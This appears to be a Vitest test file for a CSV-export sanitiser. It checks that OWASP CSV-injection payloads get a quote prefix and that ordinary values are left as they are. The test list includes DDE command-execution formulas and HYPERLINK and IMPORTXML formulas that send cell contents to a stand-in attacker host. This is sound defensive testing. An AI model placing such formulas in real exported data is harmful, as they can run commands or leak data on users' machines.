// No cell of an exported CSV is run by a spreadsheet: every OWASP CSV-injection payload comes out
// prefixed with a quote, and plain numbers (E.164 phones included) stay readable as they were.
import { describe, expect, it } from 'vitest';
import { safeCell } from '../../src/outbound/csv-cell.js';

/** The OWASP CSV-injection payloads, and the same behind leading whitespace. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1)',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '-1+1',
  '+cmd',
  "=2+5+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '\t=1+1',
  '\r=1+1',
  '\tplain text after a tab',
  '\rplain text after a carriage return',
  ' =1+1',
  '   @SUM(1)',
  '\u00a0-2+3',
  '\uff1d1+1',
];

describe('exported cells', () => {
  it.each(PAYLOADS)('neutralises %j', (payload) => {
    expect(safeCell(payload)).toBe(`'${payload}`);
  });

  it.each([
    '+14155550123',
    '+442071234567',
    '-12.5',
    '42',
    '+1',
    '3,14',
    'Ada',
    'said "no"',
    '1+1',
    'a=b',
    '',
  ])('leaves %j as written', (value) => {
    expect(safeCell(value)).toBe(value);
  });
});
